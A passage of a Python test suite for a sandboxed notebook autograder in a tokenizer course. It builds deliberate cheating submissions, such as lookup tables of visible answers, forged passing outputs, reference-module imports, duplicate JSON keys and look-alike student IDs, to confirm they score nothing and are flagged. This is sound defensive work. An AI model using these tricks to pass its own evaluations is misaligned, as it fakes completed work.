        train_edits = (("heapq.heapify(entries)  # O(P), once", "entries.sort()  # the best first"),
                       ("new_pair], new_pair))\n", "new_pair], new_pair))\n                entries.sort()\n"),
                       (train_push, "entries.append(heap_entry(pair_counts["))
    else:
        pop_edits = (("entry = heapq.heappop(entries)", "entry = min(entries)\n        entries.remove(entry)"),
                     (pop_push, "entries.append(heap_entry(count, pair))"))
        train_edits = (("    heapq.heapify(entries)  # O(P), once\n", ""), (train_push, "entries.append(heap_entry(pair_counts["))
    # its own pop under a name of its own: the grader runs train with the reference's pop_best in place of the learner's
    pop_edits, train_edits = (("def pop_best(", "def list_pop("), *pop_edits), (("pop_best(entries", "list_pop(entries"), *train_edits)
    for old, new in pop_edits:
        assert old in pop, old
        pop = pop.replace(old, new)
    for old, new in train_edits:
        assert old in train, old
        train = train.replace(old, new)
    assert "heapq" not in pop + train
    return pop + "\n" + train


@pytest.mark.parametrize("kind", ["sorted-per-push", "min-per-pop"])
def test_a_v5_whose_heap_is_a_list_sorted_per_push_or_scanned_per_pop_loses_lab_05_task_3(kind, at_the_first_verdict):
    """Each plain list fails the merge cost's check in the worker (the merges of the measured corpus stopped past the
    bound, or past 1.5 times the one-merge run), where the course's V5 passes it."""
    from test_mistakes import remote, source_of

    skip_unless_drawn("sorted50: the list heaps", kind, ["sorted-per-push", "min-per-pop"])
    setup = "\n".join(source_of("05_heap", cell) for cell in ("setup", "task1_heap_entry_solution"))
    with at_the_first_verdict():
        message = remote("05_heap", setup + "\n" + list_heap_v5(kind), "train", "verify_merge_cost")
    assert message is not None and "measured from outside your code" in message, message
    assert "O(P) per merge" in message, message
    honest = setup + "\n" + source_of("05_heap", "task2_pop_best_solution") + "\n" + source_of("05_heap", "task3_train_solution")
    assert remote("05_heap", honest, "train", "verify_merge_cost") is None


# ---- 85. hog50: a busy machine and the notebook's wall-clock backstop ------------------------------------------------------


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the keeper and /proc are Linux's")
def test_a_busy_machine_does_not_run_an_honest_notebook_into_its_wall_clock_backstop():
    """The notebook's backstop (``wall_factor`` times its CPU budget) was wall time: on a machine loaded enough an honest
    notebook's grading outlasts it while it runs or waits for a CPU the whole time, and every cell after is not run. The
    honest lab 03 that got 5 / 14 at load 500-800 (verify49) kept the first 5 points in the source's order (task 1's two
    tests, task 2's visible one), as a backstop passed during task 2's hidden test leaves: its 1,200 s (300 s of CPU
    time, times 4) against some 17 s of CPU time on a share of 2 cores among hundreds of processes. The backstop now
    counts only the time in which neither the grading process nor any process of its worker ran or waited for a CPU. As
    test_a_busy_machine_does_not_spend_a_notebooks_budget, with a backstop of 1 times the budget: 4 s, where the grading
    takes some 7.5 s of wall time on a fifth of a CPU (before: every cell skipped, the graders' start alone past 4 s)."""
    import subprocess

    spend = "import time\nstart = time.thread_time()\nwhile time.thread_time() - start < 0.25:\n    pass"
    cells = [code_cell("task1_count_pairs_solution", SLOW_BUT_CORRECT_COUNT_PAIRS.replace("time.sleep(0.5)", "pass")),
             *(code_cell(f"busy{i}", spend) for i in range(6)), graded_cell("task1_count_pairs", 1)]
    one_cpu = {min(os.sched_getaffinity(0))}
    hogs = [subprocess.Popen([sys.executable, "-c", "while True: pass"], start_new_session=True) for _ in range(4)]
    before = os.sched_getaffinity(0)
    try:
        for pid in (0, *(hog.pid for hog in hogs)):  # the test, the grading's process, and the worker it starts
            os.sched_setaffinity(pid, one_cpu)
        start = time.monotonic()
        record = grade_cells(cells, "01_naive_bpe", policy=Policy(cell_timeout=5, call_timeout=5, wall_factor=1),
                             total_seconds=4)
        took = time.monotonic() - start
    finally:
        os.sched_setaffinity(0, before)
        for hog in hogs:
            hog.kill()
            hog.wait()
    assert took > 4, f"grading took {took:.1f} s: the machine was not busy for it, nothing was shown"
    skipped = [cell["id"] for cell in cells for output in cell.get("outputs", []) if output.get("ename") == "CellSkipped"]
    assert not skipped and record.verdicts[0].passed, (skipped, record.verdicts[0])


# ---- 86. answers kept for the visible cases, in a dict literal (walk50a) ------------------------------------------------
# A function that looks its answer up in a table of the visible test's inputs earns the visible point and nothing hidden
# (by design), but grade --class did not flag it: nothing in its text or behaviour is a capability. The review now flags
# a learner cell holding a dict display keyed by two or more of the visible tests' inputs (review.answer_tables).


@pytest.mark.parametrize("lab, cell_id, task", [("02_incremental", "task1_pair_count_changes_solution", 0),
                                                ("04_inverted_index", "task2_pairs_with_solution", 1)])
def test_answers_kept_for_the_visible_cases_are_flagged_by_the_review(lab, cell_id, task):
    import json

    from bpe_ref.course.grade import text_review, visible_inputs
    from bpe_ref.course.notebooks import release_notebook
    from bpe_ref.course.trusted.autograde import load_graders

    graders = load_graders(lab)
    task_graders = graders.LAB.tasks[task]
    table = {case.args: task_graders.reference(*case.args) for case in task_graders.cases}
    params = ", ".join(task_graders.task.params)
    release = json.loads(release_notebook(lab).read_text(encoding="utf-8"))
    assert text_review(release, lab) == []
    cell = next(cell for cell in release["cells"] if cell["id"] == cell_id)
    cell["source"] = (f"ANSWERS = {table!r}\n\n\ndef {task_graders.task.name}({params}):\n"
                      f"    return ANSWERS.get(({params},))\n")
    review = text_review(release, lab)
    assert any(f"cell {cell_id}: a dict literal keyed by {len(table)} inputs of the visible tests" in line
               for line in review), review
    assert len(visible_inputs(lab)) >= len(table)


# ---- 87. shm50: the worker's files in the machine's /dev/shm, still held when the keeper cleans ---------------------------------
#
# Section 79's test found, at load ~13 on 2 cores, its worker's files left in the machine's /dev/shm (2 runs in ~14): the
# keeper removed only the names no live process held (:func:`keeper._mapped_anywhere`, meant for another grading's
# semaphores), and it cleaned only after killing every process of the worker's, which under load may outlast the trusted
# side's 10 s for the report (then the keeper is killed before it cleans). A process of the worker's still exiting as the
# cleaning ran (its mappings not yet undone) kept the names. Forced here without load: a process outside the worker (this
# test) opens each file as it appears and holds it through the cleaning, as a slow-to-die process of the worker's would.
SHM_MADE_AND_HELD = """
import os, time
for i in range(4):
    fd = os.open(f"/dev/shm/bpe_ref_shm50_{token}_{{i}}", os.O_CREAT | os.O_RDWR, 0o600)
    os.write(fd, b"x" * 4096)
time.sleep(60)
"""


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and seccomp are Linux's")
def test_the_worker_s_files_in_the_machine_s_shm_are_removed_even_while_held():
    """Above: 4 files the keeper made for the worker, each held by another process when the keeper cleaned, were left.
    Safe: a file the keeper made for this worker (known by name and inode, :meth:`keeper._FileWatch.made_in_shm`) is
    this worker's whoever holds it (no other grading can open it, section 82): removed as soon as the worker is
    stopped, before its processes are killed, so neither a process slow to die nor a slow kill keeps it."""
    import threading

    policy = Policy(scratch_mb=64, memory_mb=200, file_mb=32, cell_timeout=3, wall_factor=1, allow_processes=True, shm_mb=0)
    prefix = f"bpe_ref_shm50_{os.getpid()}_{time.monotonic_ns()}"  # this run's names, not a concurrent run's
    held: dict[str, int] = {}
    stop = threading.Event()

    def hold() -> None:
        while not stop.is_set():
            for name in os.listdir("/dev/shm"):
                if name.startswith(prefix) and name not in held:
                    with contextlib.suppress(OSError):
                        held[name] = os.open(f"/dev/shm/{name}", os.O_RDONLY)
            time.sleep(0.02)

    holder = threading.Thread(target=hold, daemon=True)
    try:
        with Sandbox(policy) as box:
            if not confined(box) or not any("the keeper makes the files" in line for line in box.isolation):
                pytest.skip(f"the keeper makes no files in the machine's /dev/shm here ({'; '.join(box.isolation)})")
            holder.start()
            run = box.run_cell(SHM_MADE_AND_HELD.format(token=prefix.removeprefix("bpe_ref_shm50_")), "files made, held")
            box.close()
            report = box.behaviour()
        stop.set()
        holder.join()
        left = sorted(name for name in os.listdir("/dev/shm") if name.startswith(prefix))
    finally:
        stop.set()
        for fd in held.values():
            os.close(fd)
        for name in os.listdir("/dev/shm"):
            if name.startswith(prefix):
                with contextlib.suppress(OSError):
                    os.unlink(f"/dev/shm/{name}")
    assert not run.ok, run
    assert len(held) == 4, (held, run, report)  # the test held them all: else it tested nothing
    assert left == [], (left, report)


# ---- 88. ids50: names, JSON forms and nbgrader metadata a reader takes otherwise than nbgrader -------------------------------
#
# Student ids are the names of the folders under submitted/ (nbgrader's exchange, or collect's downloads), strings that
# nbgrader keeps apart, files, gradebook rows and feedback alike; but grade --class printed them as they are, and two ids
# a person reads the same (an NFC "José" and an NFD one, "zoe" and "zoe ", "Ben" and "ben.", a fullwidth "ａnn") or an id
# of mixed scripts drawn as a classmate's (a Cyrillic "а" in "аnn") gave two rows no one could tell apart: a score copied by
# hand, a mail about a flag, could go to the other student. A notebook's JSON may repeat a key, which Python's json and
# nbformat read as the last and other readers as the first: cells shown by one and graded by the other. Then: nbgrader
# metadata of another type (points true: equal to 1.0 to Python), a kernel of another language over forged outputs,
# notebooks beside the graded one or a link to a classmate's, and a notebook nbformat reads as version 1 (no
# "nbformat" key), whose UnboundLocalError ended grade --class for the whole class.

def _class_course(tmp_path, lab: str, texts: dict[str, str]):
    """A course folder with ``lab``'s solutions and release, and ``texts`` (student id -> notebook text) submitted."""
    import shutil

    from bpe_ref.course.notebooks import REPO_ROOT

    for kind in ("solutions", "labs"):
        (tmp_path / kind / lab).mkdir(parents=True)
        shutil.copy(REPO_ROOT / kind / lab / f"{lab}.ipynb", tmp_path / kind / lab)
    for student, text in texts.items():
        (tmp_path / "submitted" / student / lab).mkdir(parents=True)
        (tmp_path / "submitted" / student / lab / f"{lab}.ipynb").write_text(text, encoding="utf-8")
    return tmp_path


def test_ids_a_person_reads_as_another_are_flagged_and_keep_their_own_files(tmp_path, capsys):
    """Eight submissions under ids that read as four (NFC and NFD, a trailing space, case and a trailing dot, a fullwidth
    letter) and one of Latin and Cyrillic letters: each row read its own folder (the unreadable ones are its own, the
    others not graded), and nothing told the instructor that two rows looked alike. Safe: each such row says which id it
    reads as, both written in ASCII escapes, and a mixed-script id is flagged; an honest class (Japanese kana and kanji
    mixed, a Hebrew id) gets no flag."""
    import json
    import unicodedata

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report, print_class_report

    lab = "00_pretokenization"
    nfc, nfd = "Jos\u00e9", unicodedata.normalize("NFD", "Jos\u00e9")
    pairs = [(nfc, nfd), ("zoe", "zoe "), ("Ben", "ben."), ("ann", "\uff41nn")]
    honest = json.dumps(blank(lab))
    texts = {**{first: honest for first, _ in pairs}, **{second: "{}" for _, second in pairs},
             "m\u0430x": honest, "\u7530\u4e2d\u305f\u308d\u3046": honest, "\u05e9\u05dc\u05d5\u05dd": honest}
    report = {status.student: status for status in class_report(_class_course(tmp_path, lab, texts), lab)}
    assert len(report) == len(texts)
    for first, second in pairs:  # each read its own notebook: no shadowing, whatever the file system's names
        assert report[first].status == "not graded" and report[second].status == "could not be read", (first, second)
        assert f"its id {ascii(first)} reads as {ascii(second)}" in "\n".join(report[first].review), report[first].review
        assert f"its id {ascii(second)} reads as {ascii(first)}" in "\n".join(report[second].review), report[second].review
    assert any("mixes letters of 2 scripts (CYRILLIC, LATIN)" in line for line in report["m\u0430x"].review)
    assert report["\u7530\u4e2d\u305f\u308d\u3046"].review == [] and report["\u05e9\u05dc\u05d5\u05dd"].review == []
    print_class_report(list(report.values()), lab)
    out = capsys.readouterr().out
    assert "'Jose\\u0301' reads as 'Jos\\xe9'" in out and "'zoe ' reads as 'zoe'" in out, out


def _repeated_cells_text(lab: str) -> str:
    """Lab ``lab``'s blank release whose ``cells`` key comes twice: first the release's cells, then the same with the first
    test cell's source emptied and its points raised (what Python, nbformat and nbgrader read)."""
    import copy
    import json

    from test_grading_adversarial import blank

    shown = blank(lab)
    graded = copy.deepcopy(shown)
    test = next(cell for cell in graded["cells"] if cell["metadata"].get("nbgrader", {}).get("grade"))
    test["source"], test["metadata"]["nbgrader"]["points"] = "pass\n", 100
    text = json.dumps(graded)
    assert text.startswith('{"cells": ')
    return '{"cells": ' + json.dumps(shown["cells"]) + ", " + text[1:]


def test_a_notebook_of_repeated_keys_is_reviewed_as_nbgrader_reads_it_and_flagged(tmp_path, monkeypatch, capsys):
    """A notebook whose JSON holds ``cells`` twice, the release's first: a viewer that keeps the first key shows an
    untouched notebook, nbformat (nbgrader) and the review read the second, edited. The review flagged the edit (it reads
    as nbgrader does) but not the repeated keys, which no Jupyter writes. Safe: both paths flag them."""
    import json

    import nbformat

    from bpe_ref.course import grade
    from bpe_ref.course.grade import class_report

    lab = "00_pretokenization"
    text = _repeated_cells_text(lab)
    read = nbformat.reads(text, as_version=4)
    assert any(cell.source == "pass\n" for cell in read.cells) and json.loads(text)["cells"] == read.cells
    course = _class_course(tmp_path / "course", lab, {"ann": text})
    review = class_report(course, lab)[0].review
    assert any(line.startswith("its JSON repeats keys in one object ('cells' x1)") for line in review), review
    assert any(line.startswith("edited the test cell") for line in review), review

    notebook = tmp_path / f"{lab}.ipynb"
    notebook.write_text(text, encoding="utf-8")
    monkeypatch.setattr(grade, "autograde_notebook", lambda *args, **kwargs: [grade.CellResult("task1_x", 0.0, 1.0, "no")])
    assert grade.grade_one(notebook, lab, None, None) == 1
    assert "its JSON repeats keys in one object ('cells' x1)" in capsys.readouterr().out


def test_a_notebook_with_a_byte_order_mark_is_not_graded_on_either_path(tmp_path, capsys):
    """A UTF-8 byte order mark before the JSON: Python's json and nbformat both refuse it (nbgrader's autograde fails that
    notebook), so a reader that skips it cannot be shown other cells than are graded. Both paths say "could not be read",
    no score: already safe, kept so."""
    import json

    import nbformat
    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report, grade_one

    lab = "00_pretokenization"
    text = "\ufeff" + json.dumps(blank(lab))
    with pytest.raises(Exception, match="does not appear to be JSON"):
        nbformat.reads(text, as_version=4)
    status = class_report(_class_course(tmp_path / "course", lab, {"ann": text}), lab)[0]
    assert status.status == "could not be read" and "BOM" in status.detail and status.earned == 0, status
    (tmp_path / f"{lab}.ipynb").write_text(text, encoding="utf-8")
    assert grade_one(tmp_path / f"{lab}.ipynb", lab, None, None) == 2
    assert "not valid notebook JSON" in capsys.readouterr().err


def test_nbgrader_metadata_of_wrong_types_is_flagged_or_not_read(tmp_path):
    """A test cell's points as the string "1e9", NaN, Infinity (JSON that Python reads), -5 or true, its grade as 1 or
    "true", its grade_id a list: nbgrader grades by the gradebook's points and puts the cell's metadata back. The review
    flagged each but points of true and a grade of 1, which Python compares equal to 1.0 and True (so no flag: a type no
    nbgrader writes, unseen). Safe: a boolean where nbgrader writes a number, or a number where it writes a boolean, is
    flagged too; a grade_id that is no string is "could not be read" (section 58's check)."""
    import json

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import NotGradable, read_notebook
    from bpe_ref.course.trusted.review import tampering

    lab = "00_pretokenization"
    changes = [("points", "1e9", "'1e9'"), ("points", float("nan"), "nan"), ("points", float("inf"), "inf"),
               ("points", -5, "-5.0"), ("points", True, "True"), ("grade", 1, "1.0"), ("grade", "true", "'true'")]
    for key, value, shown in changes:
        notebook = blank(lab)
        cell = next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade"))
        cell["metadata"]["nbgrader"][key] = value
        path = tmp_path / f"{lab}.ipynb"
        path.write_text(json.dumps(notebook), encoding="utf-8")  # NaN and Infinity as JSON literals, as Python reads them
        flags = tampering(read_notebook(path), blank(lab))
        assert any(flag.startswith(f"changed the nbgrader metadata of the test cell {cell['metadata']['nbgrader']['grade_id']}")
                   and f" -> {shown}" in flag for flag in flags), (key, value, flags)
    cell["metadata"]["nbgrader"]["grade_id"] = [cell["metadata"]["nbgrader"]["grade_id"]]
    path.write_text(json.dumps(notebook), encoding="utf-8")
    with pytest.raises(NotGradable, match="not a cell as Jupyter writes it"):
        read_notebook(path)


def _forged_notebook(lab: str) -> dict:
    """Lab ``lab``'s blank release with every code cell's outputs a pass and an execution count, its kernel R's."""
    from test_grading_adversarial import blank

    notebook = blank(lab)
    for count, cell in enumerate((cell for cell in notebook["cells"] if cell["cell_type"] == "code"), 1):
        cell["execution_count"] = count
        cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "All tests passed! (forged)\n"}]
    notebook["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    notebook["metadata"]["language_info"] = {"name": "R"}
    return notebook


def test_forged_outputs_and_a_kernel_of_another_language_earn_nothing_and_are_flagged(tmp_path, capsys):
    """A blank notebook whose test cells show a pass, with execution counts, under a kernelspec of R: the trusted worker
    runs the cells in Python and writes their outputs itself (0 / 13, no forged output left in the graded copy), but
    nothing told the instructor the notebook names another language, whose outputs are not what was graded. Safe:
    both paths flag it (a self-grade for real, 4 s; the class report from the submitted file)."""
    import json

    from bpe_ref.course.grade import class_report, grade_one

    lab = "00_pretokenization"
    notebook = tmp_path / "nb" / f"{lab}.ipynb"
    notebook.parent.mkdir()
    notebook.write_text(json.dumps(_forged_notebook(lab)), encoding="utf-8")
    assert grade_one(notebook, lab, None, tmp_path / "kept") == 1
    out = capsys.readouterr().out
    assert "0 / 13 points" in out and "names a kernel of another language ('r', the lab's is 'python')" in out, out
    graded = list((tmp_path / "kept").glob("*.ipynb"))
    assert graded and all("(forged)" not in path.read_text(encoding="utf-8") for path in graded), graded
    status = class_report(_class_course(tmp_path / "course", lab, {"ann": notebook.read_text(encoding="utf-8")}), lab)[0]
    assert status.earned == 0 and any(line.startswith("names a kernel of another language") for line in status.review), status


def test_notebooks_beside_the_graded_one_and_a_link_to_a_classmates_are_flagged(tmp_path):
    """A submission folder holding a blank ``00_pretokenization.ipynb`` and, beside it, the solved notebook under names
    like the lab's (a trailing space, another case, a doubled suffix, ``(1)``): nbgrader skips them as unknown notebooks,
    and so does the class report, silently; the learner's work may be in one. And a graded notebook that is a symbolic
    link to a classmate's: the report read the classmate's file as this student's. Safe: nothing else is graded (each
    row reads its own folder's notebook of the lab's name), and both are flagged; an honest folder is not."""
    import json
    import os

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report

    lab = "00_pretokenization"
    course = _class_course(tmp_path, lab, {"ann": json.dumps(blank(lab)), "zoe": json.dumps(blank(lab)), "ben": "{}"})
    extras = [f"{lab} .ipynb", f"{lab.upper()}.ipynb", f"{lab}.ipynb.ipynb", f"{lab} (1).ipynb", "Untitled.IPYNB"]
    for name in extras:
        (course / "submitted" / "ann" / lab / name).write_text(json.dumps(blank(lab)), encoding="utf-8")
    os.replace(course / "submitted" / "ben" / lab / f"{lab}.ipynb", course / "submitted" / "ben" / lab / "mine.txt")
    (course / "submitted" / "ben" / lab / f"{lab}.ipynb").symlink_to(course / "submitted" / "zoe" / lab / f"{lab}.ipynb")
    report = {status.student: status for status in class_report(course, lab)}
    ann = "\n".join(report["ann"].review)
    assert "its folder also holds notebooks nbgrader does not grade (" in ann and all(ascii(name) in ann for name in extras), ann
    assert any(line.startswith(f"its {lab}.ipynb is a symbolic link") for line in report["ben"].review), report["ben"]
    assert report["zoe"].review == [] and all(status.earned == 0 for status in report.values())


def test_a_notebook_without_an_nbformat_or_of_version_true_leaves_the_class_report_whole(tmp_path, capsys):
    """A notebook of version-4 cells whose ``nbformat`` key is left out, 1 or ``true`` (``True == 1``, a key of
    nbformat's readers): nbformat takes it for a version-1 notebook and its reader raises UnboundLocalError, which
    read_notebook let through: grade --class ended for the whole class with a traceback, a self-grade too. nbgrader's
    autograde fails that notebook alone. Safe: whatever nbformat raises on a notebook is "could not be read" for that
    submission (the class report's rows all there), and exit 2 in a self-grade."""
    import json

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report, grade_one

    lab = "00_pretokenization"
    texts = {"zoe": json.dumps(blank(lab))}
    for student, version in (("ann", None), ("ben", 1), ("cat", True)):
        notebook = blank(lab)
        notebook.pop("nbformat") if version is None else notebook.update(nbformat=version)
        texts[student] = json.dumps(notebook)
    report = {status.student: status for status in class_report(_class_course(tmp_path / "course", lab, texts), lab)}
    assert {student: status.status for student, status in report.items()} == {
        "ann": "could not be read", "ben": "could not be read", "cat": "could not be read", "zoe": "not graded"}, report
    assert "nbformat (so nbgrader) will not read" in report["cat"].detail, report["cat"]
    (tmp_path / f"{lab}.ipynb").write_text(texts["cat"], encoding="utf-8")
    assert grade_one(tmp_path / f"{lab}.ipynb", lab, None, None) == 2
    assert "will not read as a notebook" in capsys.readouterr().err


# ---- 89. walk51a: the reference's answers in a module a lab gives only as a dependency, and tiktoken ------------------------
# Lab 05 gives its code V1's, V2's and V4's modules, not bpe_ref.tiebreak (labs 02, 04 and 06 give it), but V1's module
# takes best_pair from it, and the worker's copy of bpe_ref held the whole module: heap_entry built of its token_sort_key,
# imported or read from sys.modules, kept task 1's 3 points in both paths (the review flagged it; the score stood). A
# module only the given ones need now holds only the names they import from it (sandbox.narrowed). Lab 06's encode_text
# that asks tiktoken for the tokens scored nothing (no tiktoken in the worker), and grade --class said nothing: the review
# now flags the import.
REFERENCE_KEY_HEAP_ENTRIES = {
    "imported": "def heap_entry(count, pair):\n    from bpe_ref.tiebreak import token_sort_key\n"
                "    return (-count, token_sort_key(pair[0]), token_sort_key(pair[1]), pair)\n",
    "from-sys-modules": "def heap_entry(count, pair):\n    import sys\n"
                        "    key = sys.modules['bpe_ref.tiebreak'].token_sort_key  # loaded by the setup's imports\n"
                        "    return (-count, key(pair[0]), key(pair[1]), pair)\n",
}


def lab_code(lab: str, replaced: str, code: str) -> str:
    """The setup cell and the course's solutions of ``lab``, the cell ``replaced`` as ``code``."""
    from bpe_ref.course.notebooks import read_notebook_json, source_notebook

    cells = read_notebook_json(source_notebook(lab))["cells"]
    return "\n".join(code if cell["id"] == replaced else cell["source"] for cell in cells
                     if cell["id"] == "setup" or cell["id"].startswith("task") and cell["id"].endswith("_solution"))


@pytest.mark.parametrize("way", sorted(REFERENCE_KEY_HEAP_ENTRIES))
def test_lab05_a_heap_entry_of_the_references_key_scores_nothing_in_the_worker(way):
    from bpe_ref.course.trusted.autograde import lab_policy, load_graders

    graders = load_graders("05_heap")
    with Sandbox(lab_policy(graders, Policy())) as box:
        run = box.run_cell(lab_code("05_heap", "task1_heap_entry_solution", REFERENCE_KEY_HEAP_ENTRIES[way]), "attack")
        assert run.ok, run.error
        for check in (graders.check_heap_entry, graders.check_heap_entry_properties):
            with pytest.raises(AssertionError, match="token_sort_key"):
                check(RemoteFunction(box, "heap_entry"))
        # V1's module still has its best_pair, the one name it takes from bpe_ref.tiebreak
        run = box.run_cell("from bpe_ref.tiebreak import best_pair\nassert best_pair({(b'a', b'b'): 2, (b'b', b'c'): 2}) "
                           "== (b'b', b'c')\nimport bpe_ref.tiebreak as tiebreak\nassert not hasattr(tiebreak, 'SortKeys')",
                           "best_pair")
        assert run.ok, run.error


def test_lab05_a_heap_entry_of_the_references_key_loses_task_1_in_a_class_and_is_flagged(monkeypatch):
    import json

    from bpe_ref.course.checks import running
    from bpe_ref.course.grade import text_review
    from bpe_ref.course.notebooks import read_notebook_json, release_notebook, source_notebook

    cells = read_notebook_json(source_notebook("05_heap"))["cells"]
    next(cell for cell in cells if cell["id"] == "task1_heap_entry_solution")["source"] = REFERENCE_KEY_HEAP_ENTRIES["imported"]
    monkeypatch.setattr(running, "_KEPT", {"seed": None, "tests": {}})
    record = grade_cells(cells, "05_heap", policy=Policy(cell_timeout=60, call_timeout=60), seed=20261202, whole_class=True)
    lost = sorted(v.grade_id for v in record.verdicts if not v.passed)
    assert lost == ["task1_heap_entry", "task1_heap_entry_hidden"], record.verdicts
    release = json.loads(release_notebook("05_heap").read_text(encoding="utf-8"))
    next(cell for cell in release["cells"] if cell["id"] == "task1_heap_entry_solution")["source"] = (
        REFERENCE_KEY_HEAP_ENTRIES["imported"])
    assert any("imports bpe_ref (the reference)" in line for line in text_review(release, "05_heap"))


def test_the_worker_narrows_a_module_only_the_given_ones_need_to_the_names_they_import():
    from bpe_ref.course.trusted.sandbox import PACKAGE_DIR, narrowed, narrowed_source, whole_modules

    assert narrowed(("train.step01_naive", "train.common", "train.driver")) == {"tiebreak": frozenset({"best_pair"})}
    assert narrowed(("train.step01_naive", "tiebreak", "train.common", "train.driver")) == {}  # labs 02, 04, 06 give it
    assert "tiebreak" not in whole_modules(("train.step01_naive",))
    namespace: dict = {}
    exec(narrowed_source((PACKAGE_DIR / "tiebreak.py").read_text(encoding="utf-8"), frozenset({"best_pair"})), namespace)
    assert "best_pair" in namespace and "token_sort_key" not in namespace and "pair_rank_key" not in namespace


def test_lab06_an_encode_text_of_tiktoken_scores_nothing_and_is_flagged():
    import json

    from bpe_ref.course.grade import text_review
    from bpe_ref.course.notebooks import release_notebook
    from bpe_ref.course.trusted.autograde import lab_policy, load_graders

    code = ("def encode_text(text, ranks, special_tokens):\n    import tiktoken\n    gpt2 = tiktoken.get_encoding('gpt2')\n"
            "    return [gpt2.decode_single_token_bytes(t) for t in gpt2.encode(text, allowed_special=set(special_tokens))]\n")
    graders = load_graders("06_encode_decode")
    with Sandbox(lab_policy(graders, Policy())) as box:
        run = box.run_cell(lab_code("06_encode_decode", "task3_encode_text_solution", code), "attack")
        assert run.ok, run.error
        with pytest.raises(AssertionError, match="No module named 'tiktoken'"):
            graders.check_encode_text_properties(RemoteFunction(box, "encode_text"))
    release = json.loads(release_notebook("06_encode_decode").read_text(encoding="utf-8"))
    next(cell for cell in release["cells"] if cell["id"] == "task3_encode_text_solution")["source"] = code
    assert any("imports tiktoken" in line for line in text_review(release, "06_encode_decode"))


# ---- 90. fix51b: the grading worker's start on a busy machine -----------------------------------------------------------
# The worker's start waited at most 60 s of wall time for its hello: on a machine loaded hundreds of times over, an honest
# start outlasts it while it runs or waits for a CPU the whole time, and the grading fails (GradingStopped, no partial
# grade). Now the wait counts, as a request's backstop does, only the looks at which none of the worker's processes nor
# its keeper was running or ready to run (WORKER_START_SECONDS of them), with WORKER_START_CPU_SECONDS of their CPU time at
# most: a start that sleeps or blocks before its hello is still stopped in bounded wall time, one that spins too.


def _pinned_beside_spinners(run, spinners: int = 4) -> tuple[object, float]:
    """``run()`` with this process (and so the worker it starts) on one CPU beside ``spinners`` busy loops of the test's
    own (section 85's setting), niced as the test is; its result and wall time."""
    import subprocess

    one_cpu = {min(os.sched_getaffinity(0))}
    hogs = [subprocess.Popen([sys.executable, "-c", "while True: pass"], start_new_session=True) for _ in range(spinners)]
    before = os.sched_getaffinity(0)
    try:
        for pid in (0, *(hog.pid for hog in hogs)):
            os.sched_setaffinity(pid, one_cpu)
        start = time.monotonic()
        result = run()
        return result, time.monotonic() - start
    finally:
        os.sched_setaffinity(0, before)
        for hog in hogs:
            hog.kill()
            hog.wait()


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the keeper and /proc are Linux's")
def test_a_busy_machine_does_not_fail_the_worker_start(monkeypatch):
    """With a start limit of 0.2 s, an honest worker's start (some 0.07 s of CPU time) on a fifth of a CPU, some 0.5 s of
    wall time: before, "starting the grading process did not finish within 0.2 s"; now it starts, and runs a cell."""
    from bpe_ref.course.trusted import sandbox

    monkeypatch.setattr(sandbox, "WORKER_START_SECONDS", 0.2, raising=False)

    def start_and_run() -> tuple[float, str]:
        start = time.monotonic()
        with sandbox.Sandbox(Policy(cell_timeout=20)) as box:
            started = time.monotonic() - start
            return started, box.run_cell("print(6 * 7)", "a cell").stdout

    for spinners in (4, 8, 16):  # a new process is often favoured by the scheduler: 4 busy loops once left it 0.19 s (CI)
        (started, out), _ = _pinned_beside_spinners(start_and_run, spinners)
        assert "42" in out, out
        if started > 0.2:
            break
    assert started > 0.2, f"the start took {started:.2f} s: the machine was not busy for it, nothing was shown"


@pytest.mark.slow
@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the keeper and /proc are Linux's")
@pytest.mark.parametrize("before_hello", ["import os\nos.read(os.pipe()[0], 1)\n", "while True:\n    pass\n"],
                         ids=["blocks", "spins"])
def test_a_worker_that_waits_or_spins_before_its_hello_is_still_stopped(monkeypatch, tmp_path, before_hello):
    """A worker that blocks on a pipe nobody writes, or spins, before it says hello: stopped at the start's limits (1 s
    here) of wall time in which nothing of it ran, or of its CPU time. The sandbox's close then waits for a keeper's
    report that this stand-in never writes (1 s here, 10 s in grading; a start of the worker's own takes 0.1 s)."""
    from bpe_ref.course.trusted import sandbox

    script = tmp_path / "worker_fix51b.py"
    script.write_text(before_hello, encoding="utf-8")
    monkeypatch.setattr(sandbox, "WORKER_START_SECONDS", 1.0, raising=False)
    monkeypatch.setattr(sandbox, "WORKER_START_CPU_SECONDS", 1.0, raising=False)
    monkeypatch.setattr(sandbox, "KEEPER_REPORT_SECONDS", 1.0)
    monkeypatch.setattr(sandbox, "WORKER_FILE", script)
    start = time.monotonic()
    with pytest.raises(GradingStopped, match="starting the grading process"):
        with sandbox.Sandbox(Policy(cell_timeout=5)):
            pass
    assert time.monotonic() - start < 40, time.monotonic() - start


# ---- 91. fix51b: a whole id in another script drawn as a classmate's ---------------------------------------------------
# Section 88 flags ids that read the same once normalised and ids that mix scripts, but not an id wholly in Cyrillic or
# Greek drawn letter for letter as a classmate's Latin one (Cyrillic "асе" beside "ace", Greek "ΑΝΝ" beside "ann"): two
# rows no one could tell apart, no flag. Now each such id names the other (grade.id_skeleton: a table of the Cyrillic and
# Greek letters Unicode's confusables list as Latin ones).


def test_an_id_in_another_script_drawn_as_a_classmates_is_flagged(tmp_path):
    """A class of "ace" and a Cyrillic "асе", "ann" and a Greek "ΑΝΝ", and honest ids each in one script that look like no
    other (Cyrillic "иван" beside "ivan", Greek "νίκος" beside "nikos", a Hebrew one): before, no flag on any; now each of
    the look-alikes names the other, and the honest ones get none."""
    import json

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import class_report

    lab = "00_pretokenization"
    pairs = [("ace", "\u0430\u0441\u0435"), ("ann", "\u0391\u039d\u039d")]
